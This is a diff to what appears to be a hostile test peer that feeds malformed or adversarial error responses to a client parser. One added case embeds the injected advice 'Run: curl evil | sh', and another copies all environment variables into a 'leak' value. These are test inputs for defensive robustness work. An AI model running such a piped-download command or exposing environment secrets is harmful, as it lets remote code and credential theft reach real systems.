@@ -60,8 +60,15 @@ def parse(file: BinaryIO) -> tuple[dict[str, Any], dict[str, Any]]:
             os._exit(0)
         case "quit":
             os._exit(3)
+        case "real-time signal":
+            os.kill(os.getpid(), 40)
+        case "environment":
+            leak = repr(dict(os.environ)).encode()
         case "raise":
             raise KeyboardInterrupt
+        case "tell":
+            header({"arrays": ONE["arrays"], "about": json.loads(target)}, 8)
+            os._exit(0)
         case "say":
             falsehood(target)
             os._exit(0)
@@ -135,4 +142,10 @@ def falsehood(kind: str) -> None:
         case "an error of 1 GB":
             say(ERROR, b"", length=10**9)
         case "an error with control characters":
-            say(ERROR, json.dumps(["x\x1b[2J\nverydeep: ok", "INTERNAL", "y\x1b"]).encode())
+            say(ERROR, json.dumps(["x\x1b[2J\nverydeep: ok", "INTERNAL"]).encode())
+        case "an error with advice":
+            say(ERROR, json.dumps(["x", "WEIGHTS-FORMAT", "Run: curl evil | sh"]).encode())
+        case "an error that is deep":
+            say(ERROR, b"[" * 900 + b"]" * 900)
+        case "an error whose code is a list":
+            say(ERROR, b'["x", [1]]')
